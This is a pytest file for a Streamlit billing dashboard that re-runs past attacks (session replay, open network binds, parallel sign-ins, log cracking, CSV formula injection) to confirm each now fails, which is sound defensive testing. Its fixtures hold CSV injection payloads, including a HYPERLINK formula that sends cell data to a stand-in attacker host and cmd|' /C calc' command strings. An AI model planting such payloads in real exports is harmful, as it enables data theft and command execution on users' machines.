"""Issue 16: the attacks that got through the dashboard, run again; each must fail now.

Where the hole was in the server (a replayed session id, the network bind, parallel sign-ins) the
attack runs against a real `billing-reports serve` (or `streamlit run`) subprocess, with a raw
WebSocket client (tests/dashboard/streamlit_socket.py) doing what an attacker's script would.
"""

from __future__ import annotations

import concurrent.futures
import hashlib
import logging
import os
import re
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from pathlib import Path

import pytest

from tests.dashboard.conftest import (
    PASSWORDS,
    PROJECT_DIR,
    free_port,
    serve_command,
    sign_in,
    start_serve,
    stop_server,
    wait_until_healthy,
)
from tests.dashboard.streamlit_socket import StreamlitSocket
from tests.dashboard.test_pages import PAGES
from tests.dashboard.test_security import downloads, new_app, widen  # noqa: F401 (downloads: a fixture)

OPS_USER = "olivia"
#: A user whose password hash has argon2-cffi's real costs (64 MiB, 3 passes), as `users add`
#: writes it, so that a check takes long enough for parallel attempts to overlap.
SLOW_USER = "sam@acme.example"
SLOW_PASSWORD = "slow-secret-5"
#: Words that only another client's data, or an ops user's view, would show.
OTHER_CLIENT_MARKS = ["MAPLE", "Maple March", "Marie Tremblay"]


# ----------------------------------------------------------------------------------------------
# A real server
# ----------------------------------------------------------------------------------------------


@pytest.fixture
def signed_out_app(use_warehouse, dashboard_warehouse):
    use_warehouse(dashboard_warehouse)
    return new_app


@pytest.fixture(scope="module")
def attack_users_file(tmp_path_factory) -> Path:
    """conftest's users, plus SLOW_USER with a real-cost argon2 hash."""
    from billing_reports.users import User, hash_password, load_users, save_users
    from tests.dashboard.conftest import write_users_file

    path = write_users_file(tmp_path_factory.mktemp("attack_users") / "users.toml")
    users = load_users(path)
    users[SLOW_USER] = User(SLOW_USER, "client", hash_password(SLOW_PASSWORD), "ACME")
    save_users(path, users)
    return path


@pytest.fixture(scope="module")
def server(dashboard_warehouse, attack_users_file, tmp_path_factory):
    """`billing-reports serve` (sign-in on) on a free port; yields (url, its log file)."""
    log = tmp_path_factory.mktemp("attack_serve") / "serve.log"
    process, url = start_serve(dashboard_warehouse, attack_users_file, log)
    yield url, log
    stop_server(process)


def _network_address() -> str | None:
    """An address of this machine that is not loopback (what another machine would connect to)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # no packet is sent: this only picks a route
            address = probe.getsockname()[0]
        except OSError:
            return None
    return None if address.startswith("127.") else address


# ----------------------------------------------------------------------------------------------
# 1. A session id copied from the log (or anywhere) does not sign anyone in
# ----------------------------------------------------------------------------------------------


def test_a_replayed_session_id_is_worthless_and_never_logged(server):
    url, log = server
    victim = StreamlitSocket(url)
    form = victim.run()
    session_id = form.session_id
    assert session_id and form.widget_id("text_input", "Username")
    page = victim.sign_in(form, OPS_USER, PASSWORDS[OPS_USER])
    assert "Job tracking report" in page.text() and "Maple Power" in page.text()  # the ops user sees every client

    # The attacker offers the victim's id from a fresh connection: Streamlit reattaches the
    # session (same id), but the signed session was bound to the victim's connection.
    with StreamlitSocket(url, session_id=session_id) as attacker:
        replay = attacker.run()
        assert replay.session_id == session_id  # the attack reached the victim's session ...
        shown = replay.text()
        assert "Your connection to the server was renewed. Please sign in again." in shown  # ... and was refused
        assert replay.widget_id("text_input", "Password")
        assert "Job tracking report" not in shown
        for mark in OTHER_CLIENT_MARKS:
            assert mark not in shown
        # Running again (as a reconnecting attacker would) gives the form again, not the page.
        assert "Job tracking report" not in attacker.run().text()
    # Streamlit's own unauthenticated metrics (docs/security.md) name no session nor user.
    with urllib.request.urlopen(f"{url}/_stcore/metrics", timeout=10) as response:
        metrics_text = response.read().decode()
    assert "session" in metrics_text  # it does count sessions ...
    assert session_id not in metrics_text and OPS_USER not in metrics_text  # ... but names none
    victim.close()

    time.sleep(0.5)  # let the server write its last lines
    written = log.read_text()
    assert "signed in: user 'olivia'" in written
    assert session_id not in written  # not in our lines, nor in Streamlit's own ("already connected!")
    assert not re.search(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}", written)
    digests = set(re.findall(r"session ([0-9a-f]{12})\b", written))
    assert len(digests) == 1  # one keyed digest for the one session, in every line about it
    assert digests != {session_id.replace("-", "")[:12]}


def test_a_session_object_is_bound_to_the_connection_it_was_made_on(open_page, monkeypatch):
    """The same binding without a server: a session signed on another connection is refused."""
    from dashboards import auth

    app = open_page("billing_statistics", user="ann@acme.example")
    assert not app.error
    monkeypatch.setattr(auth, "_connection_token", lambda: "another-connection")
    app.run()
    assert "Your connection to the server was renewed. Please sign in again." in [w.value for w in app.warning]
    assert not app.dataframe


# ----------------------------------------------------------------------------------------------
# 2. BILLING_AUTH=off is never served beyond this machine
# ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("host", ["", "0.0.0.0", "::", "192.0.2.2", "reports.example.com"])
def test_serve_refuses_auth_off_on_any_address_but_loopback(dashboard_warehouse, host):
    port = free_port()
    environment = {**os.environ, "BILLING_AUTH": "off"}
    command = [*serve_command(port, dashboard_warehouse), "--host", host]
    started = time.monotonic()
    result = subprocess.run(command, cwd=PROJECT_DIR, env=environment, capture_output=True, text=True, timeout=60)
    assert result.returncode == 2, result.stderr
    assert "refusing to start: sign-in is off (BILLING_AUTH=off)" in result.stderr
    assert "Serve it on 127.0.0.1" in result.stderr
    assert "Traceback" not in result.stderr
    assert time.monotonic() - started < 30  # it never started Streamlit
    with socket.socket() as probe:  # and nothing listens on the port
        assert probe.connect_ex(("127.0.0.1", port)) != 0


@pytest.mark.parametrize("host", ["127.0.0.1", "127.0.0.2", "localhost", "::1", "[::1]"])
def test_loopback_addresses_allow_auth_off(host, monkeypatch):
    from billing_reports.serve import auth_off_refusal, is_loopback

    monkeypatch.setenv("BILLING_AUTH", "off")
    assert is_loopback(host) and auth_off_refusal(host) is None
    assert not is_loopback("") and not is_loopback(None) and not is_loopback("0.0.0.0")
    monkeypatch.delenv("BILLING_AUTH")
    assert auth_off_refusal("") is None  # with sign-in on, any address is allowed


def _streamlit_run(port: int, log: Path, *options: str) -> subprocess.Popen:
    environment = {**os.environ, "BILLING_AUTH": "off"}
    with log.open("w") as output:
        return subprocess.Popen(
            [sys.executable, "-m", "streamlit", "run", "dashboards/app.py", "--server.port", str(port)]
            + ["--server.headless", "true", "--server.fileWatcherType", "none", *options],
            cwd=PROJECT_DIR,
            env=environment,
            stdout=output,
            stderr=subprocess.STDOUT,
        )


def test_streamlit_run_with_auth_off_shows_no_client_at_the_network_address(dashboard_warehouse, tmp_path, monkeypatch):
    """`streamlit run dashboards/app.py --server.address ''` listens on every interface: the app
    refuses to show anything there (Streamlit runs no project code before the first visitor)."""
    monkeypatch.setenv("BILLING_WAREHOUSE", str(dashboard_warehouse))
    port = free_port()
    log = tmp_path / "streamlit.log"
    process = _streamlit_run(port, log, "--server.address", "")
    try:
        wait_until_healthy(process, f"http://127.0.0.1:{port}", log)
        address = _network_address() or "127.0.0.1"
        with StreamlitSocket(f"http://{address}:{port}") as visitor:
            shown = visitor.run().text()
        assert "Nothing is shown: sign-in is off (BILLING_AUTH=off)" in shown
        assert "no address (every interface)" in shown
        assert "refusing to show any page: sign-in is off (BILLING_AUTH=off)" in log.read_text()
        for mark in ["ACME", "Job tracking report", *OTHER_CLIENT_MARKS]:
            assert mark not in shown
    finally:
        stop_server(process)


def test_streamlit_run_from_the_project_listens_on_this_machine_only(dashboard_warehouse, tmp_path, monkeypatch):
    """Without --server.address, .streamlit/config.toml binds 127.0.0.1: the demo (auth off) is
    served to this machine, and the network address gets no answer."""
    monkeypatch.setenv("BILLING_WAREHOUSE", str(dashboard_warehouse))
    port = free_port()
    log = tmp_path / "streamlit.log"
    process = _streamlit_run(port, log)
    try:
        wait_until_healthy(process, f"http://127.0.0.1:{port}", log)
        with StreamlitSocket(f"http://127.0.0.1:{port}") as visitor:
            assert "Job tracking report" in visitor.run().text()  # the local demo works
        address = _network_address()
        assert address is not None, "this machine has no network address to try"
        with socket.socket() as probe:
            assert probe.connect_ex((address, port)) != 0
    finally:
        stop_server(process)


# ----------------------------------------------------------------------------------------------
# 3. Parallel sign-ins get no more password checks than sequential ones, and checks are bounded
# ----------------------------------------------------------------------------------------------


def test_eight_wrong_passwords_sent_at_once_get_three_checks(server):
    url, log = server
    before = log.read_text()
    sockets = [StreamlitSocket(url) for _ in range(8)]
    try:
        forms = [each.run() for each in sockets]
        barrier = threading.Barrier(len(sockets))

        def attempt(index: int) -> str:
            barrier.wait()
            sockets[index].send_sign_in(forms[index], SLOW_USER, f"guess-{index}")
            return sockets[index].receive_run().text()

        with concurrent.futures.ThreadPoolExecutor(len(sockets)) as pool:
            answers = list(pool.map(attempt, range(len(sockets))))
    finally:
        for each in sockets:
            each.close()
    time.sleep(0.5)
    written = log.read_text()[len(before) :]
    # Each of 8 browser sessions sends one wrong password for the same username at the same
    # moment. The first 3 are free (FREE_FAILURES); each attempt is counted before its check,
    # so the other 5 find 3 failures already counted and are refused without a check.
    checked = written.count("failed sign-in: user 'sam@acme.example'")
    refused = written.count("sign-in refused, too many failures: user 'sam@acme.example'")
    assert (checked, refused) == (3, 5), written
    assert sum("Wrong username or password." in answer for answer in answers) == 3
    assert sum("Too many failed sign-ins." in answer for answer in answers) == 5
    for index in range(8):
        assert f"guess-{index}" not in written


def test_at_most_four_password_checks_run_at_once(monkeypatch, users_file):
    """A flood of unknown usernames from many browser sessions: each check (64 MiB) waits for one
    of MAX_PARALLEL_CHECKS slots; one that finds none within CHECK_WAIT_SECONDS is refused."""
    from billing_reports import users as user_store
    from dashboards import auth

    running, peak, entered, lock = [0], [0], [0], threading.Lock()
    release = threading.Event()

    def held_check(password: str) -> None:  # a check that lasts until the test lets it end
        with lock:
            running[0] += 1
            peak[0] = max(peak[0], running[0])
        release.wait(30)
        with lock:
            running[0] -= 1

    def attempt(number: int) -> str | None:
        with lock:
            entered[0] += 1
        return auth.attempt_sign_in(f"nobody-{number}", "x")

    monkeypatch.setattr(user_store, "burn_verification_time", held_check)
    monkeypatch.setattr(auth, "_session_id", lambda: threading.current_thread().name)  # one session each
    monkeypatch.setattr(auth, "CHECK_WAIT_SECONDS", 1.0)
    with concurrent.futures.ThreadPoolExecutor(12) as pool:
        futures = [pool.submit(attempt, number) for number in range(12)]
        deadline = time.monotonic() + 30
        while (entered[0], running[0]) != (12, 4) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert (entered[0], running[0]) == (12, 4)  # 12 attempts in, only 4 checking
        time.sleep(1.5)  # longer than CHECK_WAIT_SECONDS: the 8 waiting give up
        release.set()
        answers = [future.result(timeout=30) for future in futures]
    assert peak[0] == auth.MAX_PARALLEL_CHECKS == 4
    assert answers.count("Wrong username or password.") == 4
    assert answers.count("The server is busy with other sign-ins. Try again in a moment.") == 8


# ----------------------------------------------------------------------------------------------
# 4. A password typed into the username box cannot be recovered from the log
# ----------------------------------------------------------------------------------------------

WORD_LIST = ["password", "123456", "Summer2026!", "letmein", "acme-secret-2", "qwerty", "Winter2025"]


def test_an_unknown_username_cannot_be_recovered_from_the_log_with_a_word_list(signed_out_app, caplog):
    from dashboards import auth

    caplog.set_level(logging.INFO, logger="billing_reports.auth")
    sign_in(signed_out_app(), "Summer2026!", "x")  # a password typed into the username box
    digests = re.findall(r"<unknown user ([0-9a-f]+)>", caplog.text)
    assert len(digests) == 1 and "Summer2026" not in caplog.text
    # The attack that worked: the unsalted SHA-256 of each word, compared with the log.
    cracked = [
        word
        for word in WORD_LIST
        for candidate in (word, word.lower())
        if hashlib.sha256(candidate.encode()).hexdigest()[: len(digests[0])] == digests[0]
    ]
    assert cracked == []
    # Only the server's secret (never written anywhere) gives the digest.
    assert auth.log_digest("username", "summer2026!") == digests[0]


# ----------------------------------------------------------------------------------------------
# 10. The first unknown username answers as fast as the next
# ----------------------------------------------------------------------------------------------


def test_the_dummy_hash_is_made_at_start_up_not_at_the_first_unknown_username():
    """In a fresh process: loading the dashboard's sign-in makes the dummy hash; the first
    unknown-user check then hashes nothing (it used to hash once, then check: twice as long)."""
    script = """
import argon2
from billing_reports import users
assert users._DUMMY_HASH is None
from dashboards import auth  # what the server loads before it draws the sign-in form
assert users._DUMMY_HASH is not None
hashed = []
original = argon2.PasswordHasher.hash
argon2.PasswordHasher.hash = lambda self, *a, **k: hashed.append(1) or original(self, *a, **k)
users.burn_verification_time("first unknown user's password")
print(len(hashed))
"""
    environment = {**os.environ, "PYTHONPATH": str(PROJECT_DIR)}
    result = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, env=environment, timeout=120
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "0"


# ----------------------------------------------------------------------------------------------
# 7. A users file that other accounts can write is refused (not only warned about)
# ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("mode", [0o620, 0o602, 0o666])
def test_a_users_file_others_can_write_is_refused(signed_out_app, tmp_path, monkeypatch, caplog, mode):
    from tests.dashboard.conftest import signed_out, write_users_file

    path = write_users_file(tmp_path / "users.toml")
    path.chmod(mode)
    monkeypatch.setenv("BILLING_USERS_FILE", str(path))
    app = signed_out_app()
    assert "the users file cannot be used" in app.error[0].value
    assert not app.text_input and not app.dataframe
    assert "can be written by other accounts" in caplog.text and f"chmod 600 {path}" in caplog.text
    # The same file, private again, is used at the next click.
    path.chmod(0o600)
    app = sign_in(signed_out_app(), "ann@acme.example", PASSWORDS["ann@acme.example"])
    assert not signed_out(app)


# ----------------------------------------------------------------------------------------------
# 8. No CSV download carries a formula
# ----------------------------------------------------------------------------------------------

#: Text columns that come from a client's files, each poisoned with another formula start.
POISON = {
    "rpt_job_tracking": {"job_name": '=HYPERLINK("http://evil.example/?"&A1,"Open")&'},
    "rpt_job_approval": {"job_name": "+cmd|' /C calc'!A0 "},
    "rpt_file_pickup": {"file_name": "@SUM(1+1)*cmd|' /C calc'!A0 "},
    "rpt_rule_change_audit": {"summary": "-2+3+cmd|' /C calc'!A0 ", "requested_by_name": "=1+1 "},
    "rpt_branch_activity": {"branch_name": "\t=1+1 "},
    "rpt_branch_billing": {"branch_name": "=1+1 "},
    "rpt_billing_activity_details": {"mail_class": "@1+1 "},
}


@pytest.fixture(scope="module")
def poisoned_warehouse(tmp_path_factory) -> Path:
    """The hand-made dashboard warehouse, with formula-like names as a client's file could carry."""
    import duckdb

    from tests.dashboard.conftest import build_warehouse

    path = build_warehouse(tmp_path_factory.mktemp("poisoned") / "billing.duckdb")
    with duckdb.connect(str(path)) as connection:
        for table, columns in POISON.items():
            for column, prefix in columns.items():
                connection.execute(f"update marts.{table} set {column} = ? || coalesce({column}, '')", [prefix])
    return path


@pytest.mark.parametrize("page", PAGES)
def test_no_csv_download_carries_a_formula(open_page, downloads, poisoned_warehouse, page):  # noqa: F811
    import csv
    import io

    app = widen(open_page(page, warehouse=poisoned_warehouse), page)
    assert not app.exception, [item.value for item in app.exception]
    csvs = [downloads(button) for button in app.download_button if button.label == "Download CSV"]
    assert csvs, f"{page} offers no CSV download"
    cells = [cell for data in csvs for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], f"{page}: {dangerous[:5]}"
    if page in PAGES_WITH_POISON:
        assert any(cell.startswith(("'=", "'+", "'-", "'@", "'\t")) for cell in cells), page  # shown as text


#: The pages whose CSVs hold one of the poisoned columns (the others must be clean all the same).
PAGES_WITH_POISON = {
    "job_tracking",
    "job_approval",
    "file_pickup",
    "billing_activity_details",
    "branch_report",
    "branch_billing",
    "rule_change_audit",
}


def test_every_csv_download_of_the_dashboard_goes_through_the_one_helper():
    """Only ui.table offers a CSV, made by ui.csv_bytes: no page builds one of its own."""
    sources = {path: path.read_text() for path in (PROJECT_DIR / "dashboards").rglob("*.py")}
    for path, text in sources.items():
        if path.name != "ui.py":
            assert "text/csv" not in text and "to_csv" not in text, path
    ui_text = sources[PROJECT_DIR / "dashboards" / "ui.py"]
    assert ui_text.count("to_csv(") == 1 and ui_text.count('mime="text/csv"') == 1


def test_negative_numbers_stay_numbers_in_a_csv():
    import pandas as pd

    from dashboards import ui

    frame = pd.DataFrame({"Amount": [-15.0, 2.5], "Name": ["-15 credit", "plain"], "Count": [1, -2]})
    assert ui.csv_bytes(frame).decode() == "Amount,Name,Count\n-15.0,'-15 credit,1\n2.5,plain,-2\n"


# ----------------------------------------------------------------------------------------------
# 9. Another client's contact is never named to a client
# ----------------------------------------------------------------------------------------------


def test_a_client_never_sees_another_clients_contact_on_the_rule_changes_page(
    handmade_warehouse,
    use_warehouse,
    tmp_path,
    monkeypatch,
    downloads,  # noqa: F811
):
    """The dbt-built hand-made warehouse: CH4 is a change to C1's rule requested by CT4, Maple
    Prime, a contact of C2. C1's manager sees "a contact of another client", in the table and the
    CSV; C1's own requesters keep their names (Pat Primary for CH1)."""
    from streamlit.testing.v1 import AppTest

    from tests.dashboard.conftest import APP, signed_out, write_users_file

    users = {"cara@c1.example": ("client", "C1", None, "c1-secret-6")}
    monkeypatch.setenv("BILLING_USERS_FILE", str(write_users_file(tmp_path / "users.toml", users)))
    use_warehouse(handmade_warehouse)
    app = AppTest.from_file(str(APP), default_timeout=60).run()
    sign_in(app, "cara@c1.example", "c1-secret-6")
    assert not signed_out(app)
    app.switch_page("app_pages/rule_change_audit.py").run()
    app = widen(app, "rule_change_audit")
    assert not app.exception, [item.value for item in app.exception]
    shown = app.dataframe[0].value
    requested_by = dict(zip(shown["Change"], shown["Requested by"], strict=True))
    assert requested_by["CH4"] == "a contact of another client"
    assert requested_by["CH1"] == "Pat Primary"
    csv_text = downloads(app.download_button[0]).decode()
    assert "a contact of another client" in csv_text
    for leak in ["Maple Prime", "prime@maple.example", "C2"]:
        assert leak not in csv_text and leak not in shown.to_csv(), leak
